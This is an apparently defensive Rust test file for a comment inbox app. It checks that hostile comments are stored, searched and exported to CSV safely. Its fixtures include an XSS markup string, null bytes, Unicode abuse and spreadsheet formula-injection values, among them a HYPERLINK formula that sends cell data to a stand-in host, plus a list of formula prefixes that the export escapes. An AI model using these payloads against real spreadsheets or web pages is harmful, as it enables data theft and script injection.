//! What people write to do harm, or by mistake: it is read, kept as it is, found, and written into a table safely.

use std::collections::HashMap;

use postroom_core::inbox::{About, ListedItem, Typed};
use postroom_tests::office::{LIMIT, Office};
use postroom_tests::poll;
use serde_json::json;
use store::views::{Filter, Order, View};

/// Who writes what; `None` is a comment without words: a GIF or a sticker.
fn table() -> Vec<(&'static str, Option<String>)> {
    let zalgo: String = "zalgo"
        .chars()
        .flat_map(|letter| std::iter::once(letter).chain(['\u{335}', '\u{321}', '\u{322}', '\u{327}'].repeat(40)))
        .collect();
    vec![
        (
            "right.to.left",
            Some("\u{202e}desrever si siht\u{202c} overturned".to_owned()),
        ),
        ("joined.emoji", Some(vec!["👩"; 10_000].join("\u{200d}"))),
        ("combining", Some(format!("{zalgo} combined"))),
        (
            "markup",
            Some(r#"<img src=x onerror="alert(1)"><script>alert(2)</script> marked"#.to_owned()),
        ),
        ("zero.bytes", Some("before\0after\0 zeroed".to_owned())),
        ("endless", Some(format!("lengthy{}", " endless".repeat(12_800)))),
        ("wordless", None),
        (
            "formula",
            Some(r#"=HYPERLINK("http://example.com/?"&A1,"calculated")"#.to_owned()),
        ),
        ("plus", Some("+1 555 0100 is my number".to_owned())),
        ("minus", Some("-20 % was promised".to_owned())),
        ("at.sign", Some("@SUM(A1:A9)".to_owned())),
        ("tab", Some("\t=1+1".to_owned())),
        ("lines", Some("first\r\n=second,\"third\"".to_owned())),
        ("wide", Some("＝1+1".to_owned())),
    ]
}

/// An office whose first post got every comment of the table.
async fn office() -> Office {
    let office = Office::connected().await.unwrap();
    let target = office.targets().remove(0);
    let media = office.simulator.world().comment(target.as_str()).unwrap().media;
    for (username, text) in table() {
        let comment = json!({ "media": media, "username": username, "text": text });
        office.outside("comments", comment).await.unwrap();
    }
    let nameless = json!({ "media": media, "username": "hidden.from.us", "text": "Who am I?", "nameless": true });
    office.outside("comments", nameless).await.unwrap();
    office.sync().await.unwrap();
    office.all_read().await.unwrap();
    office
}

fn of<'a>(rows: &'a [ListedItem], username: &str) -> &'a ListedItem {
    rows.iter()
        .find(|row| row.item.face.username() == Some(username))
        .unwrap_or_else(|| panic!("nothing of {username}"))
}

#[tokio::test]
async fn what_anybody_writes_is_kept_as_it_is_and_found() {
    let office = office().await;
    let rows = office.view(View::All).await.unwrap();
    for (username, text) in table() {
        // Zero bytes are left out on the way in: SQLite's functions end a text there.
        let text = text.map(|text| text.replace('\0', ""));
        let row = of(&rows, username);
        assert!(
            row.item.face.text() == text.as_deref(),
            "{username} reads otherwise: {:?}",
            row.item
                .face
                .text()
                .map(|text| text.chars().take(60).collect::<String>())
        );
        let thread = office
            .app
            .inbox()
            .thread(&row.item.face.comment().unwrap().id)
            .await
            .unwrap();
        assert!(
            thread.comments[0].comment.text == text,
            "{username} reads otherwise in its thread"
        );
    }
    for (word, username) in [
        ("overturned", "right.to.left"),
        ("👩", "joined.emoji"),
        ("combined", "combining"),
        ("onerror", "markup"),
        ("zeroed", "zero.bytes"),
        ("lengthy", "endless"),
        ("calculated", "formula"),
        ("wordless", "wordless"),
    ] {
        let search = Typed { line: "", search: word };
        let found = office.typed(View::All, search).await.unwrap();
        let row = of(&found, username);
        let (text, name) = (row.item.face.text().unwrap_or_default(), username);
        for (marks, within) in [(&row.marks.text, text), (&row.marks.username, name)] {
            let units = u32::try_from(within.encode_utf16().count()).unwrap();
            assert!(
                marks.iter().all(|mark| mark.start < mark.end && mark.end <= units),
                "{word}"
            );
        }
        assert!(
            !row.marks.text.is_empty() || !row.marks.username.is_empty(),
            "{word} is marked"
        );
    }
    poll::until("the wordless comment to be told as one", LIMIT, async || {
        let wordless = Typed {
            line: "has:media",
            search: "",
        };
        let found = office.typed(View::All, wordless).await?;
        let names = found.iter().filter_map(|row| row.item.face.username());
        Ok(names.into_iter().any(|name| name == "wordless").then_some(()))
    })
    .await
    .unwrap();
}

#[tokio::test]
async fn a_person_whose_name_is_kept_back_has_a_comment_like_everybody() {
    let office = office().await;
    let rows = office.view(View::All).await.unwrap();
    let unknown = rows
        .iter()
        .find(|row| row.item.face.text() == Some("Who am I?"))
        .unwrap();
    assert_eq!(unknown.item.face.username(), None);
    let comment = unknown.item.face.comment().unwrap().id.clone();
    let thread = office.app.inbox().thread(&comment).await.unwrap();
    assert_eq!(thread.author.username, None);
    let card = office.app.inbox().author_card(&About::Comment(comment.clone())).await;
    assert!(card.is_ok_and(|card| card.username.is_none()), "nobody is made up");
    let action = office.app.inbox().set_hidden(&[comment], true).await.unwrap().remove(0);
    office.settle().await.unwrap();
    assert_eq!(office.action(&action).await.unwrap().delivery, store::Delivery::Sent);
}

#[tokio::test]
async fn the_table_of_a_list_holds_every_item_and_no_formula() {
    let office = office().await;
    let filter = Filter {
        view: View::All,
        accounts: Vec::new(),
        order: Order::NewestFirst,
        typed: None,
    };
    let inbox = office.app.inbox();
    let (snapshot, total) = inbox.open(filter, Typed::default()).await.unwrap();
    let order: Vec<_> = inbox.rows(snapshot, 0, total).await.unwrap();
    let mut bytes = Vec::new();
    assert_eq!(inbox.export(snapshot, &mut bytes).await.unwrap(), total);

    let text = std::str::from_utf8(&bytes).unwrap();
    assert!(text.starts_with('\u{feff}') && !text.contains('\0'));
    let mut table_read = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let heads = table_read.headers().unwrap().clone();
    let column = |name: &str| heads.iter().position(|head| head == name).unwrap();
    let rows: Vec<csv::StringRecord> = table_read.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), total, "every item of the list, not what is on screen");
    for (row, listed) in rows.iter().zip(&order) {
        assert_eq!(
            row[column("author")],
            *listed.item.face.username().unwrap_or("Unknown person"),
            "in its order"
        );
        let formula = row
            .iter()
            .find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']));
        assert_eq!(formula, None);
    }
    let by: HashMap<&str, &str> = rows
        .iter()
        .map(|row| (&row[column("author")], &row[column("text")]))
        .collect();
    for (username, text) in table() {
        let written = text.unwrap_or_default().replace('\0', "");
        let guarded = ["formula", "plus", "minus", "at.sign", "tab", "wide"].contains(&username);
        let expected = if guarded { format!("'{written}") } else { written };
        assert!(by[username] == expected, "{username} is written otherwise");
    }
    assert_eq!(by["Unknown person"], "Who am I?");
    let first = rows.iter().find(|row| &row[column("author")] == "formula").unwrap();
    assert_eq!(&first[column("account")], office.username(0));
    assert_eq!((&first[column("state")], &first[column("hidden")]), ("open", "no"));
    assert!(first[column("link")].starts_with("https://"));
}
